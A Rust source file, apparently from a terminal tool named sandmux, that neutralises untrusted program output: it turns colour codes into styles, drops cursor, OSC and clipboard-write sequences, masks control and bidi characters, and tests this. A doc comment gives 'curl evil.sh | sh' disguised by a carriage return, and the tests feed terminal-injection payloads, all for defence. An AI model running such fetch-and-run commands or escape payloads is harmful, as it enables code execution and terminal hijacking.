//! Turning untrusted output bytes into styled text that is safe to put on the screen.
//!
//! Session output comes from sandboxed programs and must never reach the host terminal as
//! control sequences. [`render`] keeps exactly one kind of escape sequence, SGR (colours and
//! text attributes), by turning it into ratatui styles; everything else is neutralised:
//!
//! - other CSI sequences (cursor movement, `ESC[?1049h`, erase, ...) are dropped;
//! - OSC (titles, clipboard writes with OSC 52, hyperlinks), DCS, SOS, PM and APC strings are
//!   dropped up to their terminator (or the end of the line);
//! - other two-character escapes (`ESC c`, `ESC 7`, ...) are dropped; a lone ESC is shown as `␛`;
//! - C0 controls and DEL are shown as Unicode control pictures (`␇`, `␀`), C1 controls and
//!   bidirectional overrides as `�`, invalid UTF-8 as `�`;
//! - a tab expands to the next multiple of 8 columns, a backspace removes the character
//!   before it, and a carriage return starts the line over (as a progress bar expects).
//!
//! The result is plain text plus style runs, so search can work on the text a user sees.

use std::ops::Range;

use ratatui::style::{Color, Modifier, Style};
use unicode_width::UnicodeWidthChar;

/// Text ready for display: no control characters, with style runs over byte ranges.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Styled {
    pub text: String,
    /// Contiguous, ordered runs covering `text`.
    pub runs: Vec<(Range<usize>, Style)>,
}

impl Styled {
    /// Appends untrusted text from inside a JSON string, neutralised like output (see
    /// [`render`]) except that a carriage return or a backspace is shown (`␍`, `␈`), never
    /// applied: `"curl evil.sh | sh\rls -la"` must not read as `ls -la`.
    pub fn push_text(&mut self, text: &str, style: Style) {
        self.append(render_with(text.as_bytes(), style, false));
    }

    /// Appends already safe text (sandmux's own decorations) in `style`.
    pub fn push_plain(&mut self, text: &str, style: Style) {
        for c in text.chars() {
            self.push(c, style);
        }
    }

    /// Appends another styled text.
    pub fn append(&mut self, other: Styled) {
        let offset = self.text.len();
        self.text.push_str(&other.text);
        for (range, style) in other.runs {
            let range = range.start + offset..range.end + offset;
            match self.runs.last_mut() {
                Some((last, s)) if *s == style && last.end == range.start => last.end = range.end,
                _ => self.runs.push((range, style)),
            }
        }
    }

    fn push(&mut self, c: char, style: Style) {
        let start = self.text.len();
        self.text.push(c);
        let end = self.text.len();
        match self.runs.last_mut() {
            Some((range, s)) if *s == style && range.end == start => range.end = end,
            _ => self.runs.push((start..end, style)),
        }
    }

    fn pop(&mut self) {
        if let Some(c) = self.text.pop() {
            let len = self.text.len();
            if let Some((range, _)) = self.runs.last_mut() {
                range.end -= c.len_utf8();
                if range.start >= range.end {
                    self.runs.pop();
                }
            }
            debug_assert_eq!(self.runs.last().map_or(0, |(r, _)| r.end), len);
        }
    }

    fn clear(&mut self) {
        self.text.clear();
        self.runs.clear();
    }

    /// Display width in terminal cells.
    pub fn width(&self) -> usize {
        self.text.chars().map(|c| c.width().unwrap_or(0)).sum()
    }
}

/// Renders one line of output bytes with `base` as the style before any SGR.
pub fn render(bytes: &[u8], base: Style) -> Styled {
    render_with(bytes, base, true)
}

/// [`render`], where `motion` says whether a carriage return and a backspace act on the line
/// (as a progress bar expects) or are shown as control pictures.
fn render_with(bytes: &[u8], base: Style, motion: bool) -> Styled {
    let chars = decode(bytes);
    let mut out = Styled::default();
    let mut style = base;
    let mut column = 0usize;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        i += 1;
        match c {
            '\x1b' => match chars.get(i) {
                Some('[') => {
                    let (end, sequence) = csi(&chars, i + 1);
                    i = end;
                    if let Some((params, 'm')) = sequence {
                        style = apply_sgr(style, base, &params);
                    }
                }
                Some(']' | 'P' | 'X' | '^' | '_') => i = skip_string(&chars, i + 1),
                Some(&next) if (' '..='~').contains(&next) => {
                    // ESC followed by intermediates then a final byte: a two-char escape.
                    let mut j = i;
                    while chars.get(j).is_some_and(|c| (' '..='/').contains(c)) {
                        j += 1;
                    }
                    i = (j + 1).min(chars.len());
                }
                _ => {
                    out.push('␛', placeholder(style));
                    column += 1;
                }
            },
            '\t' => {
                let spaces = 8 - column % 8;
                for _ in 0..spaces {
                    out.push(' ', style);
                }
                column += spaces;
            }
            '\r' if motion => {
                if i < chars.len() {
                    out.clear();
                    column = 0;
                }
            }
            '\x08' if motion => {
                if let Some(last) = out.text.chars().last() {
                    column = column.saturating_sub(last.width().unwrap_or(0));
                    out.pop();
                }
            }
            c if (c as u32) < 0x20 => {
                out.push(
                    char::from_u32(0x2400 + c as u32).unwrap_or('�'),
                    placeholder(style),
                );
                column += 1;
            }
            '\x7f' => {
                out.push('␡', placeholder(style));
                column += 1;
            }
            '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
                out.push('�', placeholder(style));
                column += 1;
            }
            c => {
                out.push(c, style);
                column += c.width().unwrap_or(0);
            }
        }
    }
    out
}

/// The text of a line without any styling (what search matches against).
pub fn plain(bytes: &[u8]) -> String {
    render(bytes, Style::default()).text
}

fn placeholder(style: Style) -> Style {
    style.add_modifier(Modifier::DIM)
}

fn decode(bytes: &[u8]) -> Vec<char> {
    let mut chars = Vec::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        chars.extend(chunk.valid().chars());
        if !chunk.invalid().is_empty() {
            chars.push('\u{fffd}');
        }
    }
    chars
}

/// Parses a CSI sequence starting after `ESC [`. Returns where parsing stopped and, for a
/// complete plain sequence, its parameters and final character. A sequence with a private
/// marker or intermediates is complete but returns `None`.
fn csi(chars: &[char], mut i: usize) -> (usize, Option<(String, char)>) {
    let mut params = String::new();
    let mut plain = true;
    while let Some(&c) = chars.get(i) {
        i += 1;
        match c {
            '0'..='9' | ';' | ':' => params.push(c),
            '<' | '=' | '>' | '?' => plain = false,
            ' '..='/' => plain = false,
            '@'..='~' => return (i, plain.then_some((params, c))),
            // Anything else aborts the sequence (and is not shown).
            _ => return (i, None),
        }
    }
    (i, None)
}

/// Skips an OSC/DCS/SOS/PM/APC string up to BEL or ST (`ESC \`), or the end of the line.
fn skip_string(chars: &[char], mut i: usize) -> usize {
    while let Some(&c) = chars.get(i) {
        i += 1;
        match c {
            '\x07' | '\u{9c}' => return i,
            '\x1b' if chars.get(i) == Some(&'\\') => return i + 1,
            _ => {}
        }
    }
    i
}

fn apply_sgr(mut style: Style, base: Style, params: &str) -> Style {
    let numbers: Vec<Option<u16>> = params
        .split([';', ':'])
        .map(|p| {
            if p.is_empty() {
                Some(0)
            } else {
                p.parse().ok()
            }
        })
        .collect();
    let mut i = 0;
    while i < numbers.len() {
        let Some(n) = numbers[i] else {
            i += 1;
            continue;
        };
        i += 1;
        style = match n {
            0 => base,
            1 => style.add_modifier(Modifier::BOLD),
            2 => style.add_modifier(Modifier::DIM),
            3 => style.add_modifier(Modifier::ITALIC),
            4 => style.add_modifier(Modifier::UNDERLINED),
            5 | 6 => style.add_modifier(Modifier::SLOW_BLINK),
            7 => style.add_modifier(Modifier::REVERSED),
            9 => style.add_modifier(Modifier::CROSSED_OUT),
            21 | 22 => style.remove_modifier(Modifier::BOLD | Modifier::DIM),
            23 => style.remove_modifier(Modifier::ITALIC),
            24 => style.remove_modifier(Modifier::UNDERLINED),
            25 => style.remove_modifier(Modifier::SLOW_BLINK),
            27 => style.remove_modifier(Modifier::REVERSED),
            29 => style.remove_modifier(Modifier::CROSSED_OUT),
            30..=37 => style.fg(Color::Indexed((n - 30) as u8)),
            39 => Style {
                fg: base.fg,
                ..style
            },
            40..=47 => style.bg(Color::Indexed((n - 40) as u8)),
            49 => Style {
                bg: base.bg,
                ..style
            },
            90..=97 => style.fg(Color::Indexed((n - 90 + 8) as u8)),
            100..=107 => style.bg(Color::Indexed((n - 100 + 8) as u8)),
            38 | 48 => {
                let (color, used) = extended_color(&numbers[i..]);
                i += used;
                match color {
                    Some(c) if n == 38 => style.fg(c),
                    Some(c) => style.bg(c),
                    None => style,
                }
            }
            // 8 (hidden) is ignored on purpose: output must not be able to hide itself.
            _ => style,
        };
    }
    style
}

/// `5;N` or `2;R;G;B` after 38/48; returns the colour and how many numbers it used.
fn extended_color(rest: &[Option<u16>]) -> (Option<Color>, usize) {
    match rest.first().copied().flatten() {
        Some(5) => match rest.get(1).copied().flatten() {
            Some(n) if n <= 255 => (Some(Color::Indexed(n as u8)), 2),
            _ => (None, rest.len().min(2)),
        },
        Some(2) => {
            let rgb: Vec<u8> = rest
                .iter()
                .skip(1)
                .take(3)
                .filter_map(|n| n.filter(|v| *v <= 255).map(|v| v as u8))
                .collect();
            match rgb[..] {
                [r, g, b] => (Some(Color::Rgb(r, g, b)), 4),
                _ => (None, rest.len().min(4)),
            }
        }
        _ => (None, 1.min(rest.len())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(bytes: &[u8]) -> String {
        plain(bytes)
    }

    fn style_at(s: &Styled, byte: usize) -> Style {
        s.runs
            .iter()
            .find(|(r, _)| r.contains(&byte))
            .map(|(_, s)| *s)
            .unwrap()
    }

    /// Nothing in rendered text may be a control character the terminal would act on.
    fn assert_inert(s: &str) {
        for c in s.chars() {
            assert!(!c.is_control(), "control {c:?} in {s:?}");
            assert!(
                !('\u{202a}'..='\u{202e}').contains(&c) && !('\u{2066}'..='\u{2069}').contains(&c)
            );
        }
    }

    #[test]
    fn sgr_colours_become_styles_and_vanish_from_the_text() {
        let s = render(
            b"a\x1b[31mred\x1b[0m b\x1b[1;38;5;200mX\x1b[38;2;1;2;3mY",
            Style::default(),
        );
        assert_eq!(s.text, "ared bXY");
        assert_eq!(style_at(&s, 0), Style::default());
        assert_eq!(style_at(&s, 1).fg, Some(Color::Indexed(1)));
        assert_eq!(style_at(&s, 4), Style::default());
        let x = style_at(&s, 6);
        assert_eq!(x.fg, Some(Color::Indexed(200)));
        assert!(x.add_modifier.contains(Modifier::BOLD));
        assert_eq!(style_at(&s, 7).fg, Some(Color::Rgb(1, 2, 3)));
    }

    #[test]
    fn osc_titles_and_clipboard_writes_are_dropped() {
        assert_eq!(text(b"a\x1b]0;pwned\x07b"), "ab");
        assert_eq!(text(b"a\x1b]52;c;ZXZpbA==\x1b\\b"), "ab");
        assert_eq!(text(b"a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\"), "alink");
        assert_eq!(text(b"unterminated\x1b]0;title forever"), "unterminated");
    }

    #[test]
    fn cursor_and_screen_sequences_are_dropped() {
        assert_eq!(
            text(b"\x1b[?1049hA\x1b[2J\x1b[HB\x1b[10;20fC\x1b[?25l"),
            "ABC"
        );
        assert_eq!(text(b"\x1bcreset\x1b7saved\x1b(B"), "resetsaved");
        assert_eq!(text(b"\x1bPq#0;2;0;0;0\x1b\\dcs"), "dcs");
        assert_eq!(text(b"\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\ok"), "ok");
    }

    #[test]
    fn a_bare_esc_and_controls_are_shown_as_placeholders() {
        assert_eq!(text(b"a\x1b"), "a␛");
        assert_eq!(text(b"bell\x07 nul\x00 del\x7f"), "bell␇ nul␀ del␡");
        assert_eq!(text("c1\u{9b}31m".as_bytes()), "c1�31m");
        assert_eq!(text("rtl\u{202e}txt".as_bytes()), "rtl�txt");
        assert_eq!(text(b"bad\xff\xfeutf8"), "bad��utf8");
    }

    #[test]
    fn tabs_carriage_returns_and_backspaces_behave_like_a_terminal() {
        assert_eq!(text(b"a\tb"), "a       b");
        assert_eq!(text(b"abcdefgh\tx"), "abcdefgh        x");
        assert_eq!(text(b"10%\r20%\r30%"), "30%");
        assert_eq!(text(b"crlf\r"), "crlf");
        assert_eq!(text(b"ab\x08c"), "ac");
    }

    #[test]
    fn hidden_text_stays_visible() {
        let s = render(b"\x1b[8msecret", Style::default());
        assert_eq!(s.text, "secret");
        assert!(!style_at(&s, 0).add_modifier.contains(Modifier::HIDDEN));
    }

    #[test]
    fn reset_returns_to_the_base_style() {
        let base = Style::default().fg(Color::LightRed);
        let s = render(b"\x1b[32mg\x1b[0mr\x1b[34mb\x1b[39md", base);
        assert_eq!(style_at(&s, 1).fg, Some(Color::LightRed));
        assert_eq!(style_at(&s, 3).fg, Some(Color::LightRed));
    }

    #[test]
    fn arbitrary_bytes_never_produce_controls_or_panic() {
        // A deterministic sweep of pseudo-random byte strings rich in escape material.
        let alphabet: &[u8] = b"\x1b[]();:?0123456789mPX^_\\\x07\x9b\x9c\xc2\x80\x9d\t\r\x08\x00\x7fabc\xe2\x80\xae\xff";
        let mut seed: u64 = 0x9e3779b97f4a7c15;
        for _ in 0..20_000 {
            let len = (seed % 24) as usize;
            let mut bytes = Vec::with_capacity(len);
            for _ in 0..len {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                bytes.push(alphabet[(seed % alphabet.len() as u64) as usize]);
            }
            let s = render(&bytes, Style::default());
            assert_inert(&s.text);
            let covered: usize = s.runs.iter().map(|(r, _)| r.len()).sum();
            assert_eq!(covered, s.text.len(), "{bytes:?}");
        }
    }

    #[test]
    fn widths_count_wide_characters() {
        assert_eq!(render("日本".as_bytes(), Style::default()).width(), 4);
    }
}
